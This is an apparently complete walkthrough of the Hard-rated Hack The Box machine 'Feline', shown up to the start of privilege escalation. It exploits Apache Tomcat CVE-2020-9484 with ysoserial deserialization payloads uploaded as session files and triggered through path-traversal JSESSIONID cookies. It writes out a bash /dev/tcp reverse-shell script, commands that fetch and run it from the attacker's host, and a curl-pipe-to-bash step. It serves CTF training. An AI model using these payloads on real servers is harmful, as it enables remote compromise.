Feline Walkthrough - Hack The Box

22 minute read


Feline is a Hack the Box machine that is rated Hard on their difficulty scale. This machine will be a challenge for many and will require attention to detail and likely a lot of research. We will start by finding out that there is an Apache Tomcat9.0.27 deployment running that is hosting a site that allows for uploading files. We then find that the machine is vulnerable to CVE-2020-9484 – a vulnerability with insecure deserialization that when paired with Apache PersistenceManager can result in remote code execution. We are then able to get our initial shell and find that the machine is using a stool called SaltStack that is also vulnerable to RCE. This allows us to get a shell as the root user on a container that is hosted by the machine. The host allows for containers to utilize the Docker.Sock Unix socket, and we are able to breakout of the container using the Docker API.

Port Scan

We’ll start by scanning for open TCP ports using the following nmap command.

nmap -sCTV -Pn -T4 -p- -oA nmap_all_tcp

Our scan shows us that OpenSSH 8.2p1 is running on port 22 and that there is an Apache Tomcat 9.0.27 service running onport 8080. We should first go take a look at what is being served by the Tomcat service on port 8080.

Website - VirusBucket

When we navigate to in our browser we find a website named VirusBucket. The site appears to be providing a malware analysis service.

The website and its links are largely nonfunctioning. However,there is another page found when we take the Service link from the top navigation. This leads to and appears to allow us to upload a file to be analyzed.

This upload functionality may be our initial entry point. Considering the functionality is meant to allow for the uploading of malware, it may mean that we will be able to upload just about anything, including a reverse shell payload. We should try testing the upload functionality while analyzing the requests with Burp Suite. Before we do though, we should also start a fuzzing job to see if there are any other files or directories that we are not seeing here.

Directory Fuzzing with GoBuster

Before we continue to look into the websites upload functionality, we should get a fuzzer running in the background. We know that the site is being hosted by a Tomcatserver. Tomcat is commonly associated to a Java based web application, and .jsp files are something that we should look for in our fuzz. We can run the following GoBuster command to do a directory search on the site, passing the -x flag with jsp,txt as an argument and gobuster will also fuzz for jsp and txt files.

gobuster dir -u -w /usr/share/wordlists/dirbuster/directory-list-lowercase-2.3-medium.txt -t 25 -x jsp,txt

GoBuster will take some time to run, and so while it is running, we will begin to play with the upload functionality with Burp.

Final GoBuster Results
2021/01/19 15:12:29 Starting gobuster
/images (Status: 302)
/upload.jsp (Status: 200)
/service (Status: 302)
/license.txt (Status: 200)2021/01/19 15:26:34 Finished

NOTE: GoBuster ultimately doesn’t show us any information that we will not get from the following Burp Suite analysis. But anytime we can have some background enumeration happening while we work on something else, we should be doing it. This could have resulted in additional information.

Testing Upload Functionality with Burp SuiteWe are going to start by using the Burp Suite proxy to catch the upload request so that we can review what it is doing before sending it to the server. Open Burp Suite and confirm that Intercept is turned on from the Proxy tab.

NOTE: You will need to configure your browser to send all requests to your Burp Suite proxy. If you are unfamiliar with how to do this, you can visit this page. I recommend using the FireFox browser plugin named ‘Foxy Proxy’ to handle this easily.

Now with intercept on, we will upload a text file (I named mine test.txt) with anything in it. When we click the Analyze! button, Burp Suite will catch the request.

We see here that the upload is handled with a generic POST request sent to upload.jsp. And so now we know for sure that this is running some form of a Java based application. We should play with the request in Repeater to see if it is actually uploading a file, and if so where it is puttingthe file.

Send the request to Repeater by pushing Ctrl+R while on the intercepted request page. Go to the Repeater tab and go ahead and send the request.

It appears that the upload functionality does actually upload something, or at least it is made to seem that way. The File uploaded successfully! message is indication of that, but it does not necessarily help us understand what will happen to our uploaded file. It would have been nice if it included the upload location in the message.

One way that we may be able to get a message that exposes the upload location is by trying things that would produce an error. If the application is not coded in a way that securely handles errors, it may result in information disclosure.

To do this, we try things like…

  • Resubmitting the same request. This may cause an error if it doesn’t know how to handle a file with the same name.
  • Removing parts of the Post request that are likely to be required. Such as the name, filename, or even the content of the file.

Sweet! What works for us is to remove the value of filename. This results in an error saying that /opt/samples/uploads (Is a directory). This is likely because the application is coded in a way that is trying to save the file by providing its fully qualified path & file name, for example /opt/samples/uploads/test.txt. Because the string used as the file name was a directory, it caused an error. This results in the upload directory being exposed.

Upload Directory

This isn’t all good new though. This means that the uploaded files are being sent to a directory that is likely not served by the Apache server. This means that even if we were to get a shell payload file uploaded, we would not be able to execute it without some kind of RCE and with an RCE would wouldn’t even need the upload. Our GoBuster scan has finished and does not expose any other pages or directories and so we likely will not find an RCE in the website. And so, it is time totake a step back and consider the information that we have at this point that my lead to a path forward.

Apache Tomcat 9.0.27 Vulnerability - CVE-2020-9484

At this point we know that there are only two ports open, serving SSH and an Apache Tomcat deployment. We know that the site allows for us to upload files, but the files are uploaded to a directory that we cannot access directly from the pages served by the Apache server. At this point, we should start researching vulnerabilities with the versions of the services that are open. The Apache Tomcat server is more likely to have vulnerabilities than the SSH service, and so we should start there.

A Google search for Apache Tomcat 9.0.27 Vulnerability results in us finding out that there is a Remote Code Execution vulnerability in this version of Apache Tomcat.

CVE-2020-9484 Description
The vulnerability allows a remote attacker to execute arbitrary code on the target system.

The vulnerability exists due to insecure input validation whenprocessing serialized data in uploaded files names. A remote attacker can pass specially crafted file name to the application and execute arbitrary code on the target system.

Successful exploitation of this vulnerability may result in complete compromise ofvulnerable system but requires that the server is configured to use PersistenceManager with a FileStore and the attacker knows relative file path from storage location.

It seems that this vulnerability will require some very specific conditions.

  • The server must be configured to use the PersistenceManager
  • There must be an upload functionality where the attacker can control the uploaded file name.
  • The attacker must know the path of the upload storage location.

We do not know at this point if the server is configured to use the PersistenceManager. However, we do know that all of the other conditions are true. And considering this is a capture the flag, the simple fact that this machine is on this specific version of Tomcat and we know that the requirements around the uploading are all met, we should spend some time figuring out how to exploit this vulnerability.

A Google search of CVE-2020-9484 exploit leads us to this post that may help us better understand how we can exploit this vulnerability.

After reading this page, the vulnerability seems pretty straight forward.

  • The PresistenceManager will first attempt to look for a session in memory, and if it does not find it, it will attempt to look for it on the hard disk.
  • We have access to change the name of the session and can set it to a path onthe hard drive, for example our upload directory.
  • When the the session ID check is made, it will search for it in the form of {SESSION_DIRECTORY}{SESSION_ID}.session.
    • For example, if we set our session ID to ../../../opt/samples/uploads/idiothacker and we had a serialized payload named idiothacker.session uploaded to the uploads directory, our payload should be executed apon the page request.

NOTE: I spent about two hours trying to do this next step, passing many different payloads in a single one-liner to try to get a shell. It seemed that everything that I threw at it would not work. Until I tried it the way that we will do it here. If you were able to do this more effeciantly, I’d love to hear how you did it.

Exploiting CVE-2020-9484 (User Flag)

Preparing for this exploit will involve a few steps.

  1. Creating a very basic bash script named connect.sh that simply sends a shell request to our machine.
  2. Creating a file named get.session that will contain a prepared payload that uses curl to download the connect.sh script.
  3. Creating a file named run.session that contains a payload that runs the connect.sh script.
  4. Uploading the get.session and the run.session to the server using the sites built in functionality.
  5. Start a webserver that will serve the connect.sh script.
  6. Use curl to send a request to the uploads.jsp page, passing the location of get.session as the JSESSIONID.
  7. Start an nc listerner on port 443.
  8. Use curl to send a request to the uploads.jsp page, passing thelocation of run.session as the JSESSIONID.

Let’s start by creating a file named connect.sh in our working directory with the following script. Be sure to replace <YOUR TUNNEL IP> with your HTB VPN IP.

#! /bin/bash
bash -c "bash -i >& /dev/tcp/<YOUR TUNNEL IP>/443 0>&1"

Now we will need to go download a tool called ysoserial. Visit the GitHub page and scroll down to the Installation section and just download the jar file for JitPack. Once you have downloaded the jar file, move it to your working directory and then run it using the following command. Be sure to replace <YOUR TUNNEL IP> with your HTB VPN IP.

java -jar ysoserial-master-138dc36bd2-1.jar CommonsCollections2 'curl http://<YOUR TUNNEL ID>/connect.sh -o /tmp/connect.sh' > get.session

NOTE: The name of the jar file make be different when you download it. If that is the case, be sure to modify the name of the jar file in the command.

This will create a file in our working directory named get.session that has a java serialized payload that will run the curl command to download the connect.sh file from our machine and store it in the /tmp directory on the target.

Next we will do the same, this time with the command to run the script and saving it in a file named run.session.

java -jar ysoserial-master-138dc36bd2-1.jar CommonsCollections2 'bash /tmp/connect.sh' > run.session

Now upload both the get.session and run.session files using the sample analysis upload functionality on the site. And then the fun part starts!

NOTE: There seems to be a job on the server that will regularly clear the files added to the uploads directory. If at some point the steps belloware not working, first try to reupload your session files.

From your working directory, run the following command to start a python web server in your wokring directory.

python3 -m http.server 80

And now run the following curl command to pass the get.session file that we uploaded as the session ID.

curl -H'Cookie:JSESSIONID=../../../opt/samples/uploads/get'

Don’t be alarmed by the error, we shouldexpect this, because what happed was that it found our session (the get.session payload), and then tried to use it. But out session simply told the machine to curl back to our attacking machine to get the connect.sh and then save it in /tmp. We can confirm this by seeing that our python web server received the request.

Now we need to start a Netcat listener on port 443.

nc -lvnp 443

And finally we can run the following curl command to send a request, passing the run.session as the session ID.

curl -H 'Cookie:JSESSIONID=../../../opt/samples/uploads/run'

Once again, do not be alarmed if you receive and error. You can confirm this worked by seeing that you should now have a reverse shell as the tomcat user.

Awesome! We now have a shell as the tomcat user, who has access to the user.txt found at /home/tomcat/user.txt. Now it is time to look for a path to privilege escalation.Finding a Path to Escalation of Privilege

As a typical EoP investigation, we will run the LinPEAS script.

Download the LinPEAS script and move it to your working directory. After you have moved it, start the Python web server again, using the same command from above. You can then curl for it and just pipe it directly into bash with the following command.

curl http://<YOUR TUNNEL IP>/linpeas.sh | bash

As expected, considering the Hard rating of this machine, there are not a bunch of things jumping out in the results of this script. One thing that it does show us is that there are a number of ports running internally.

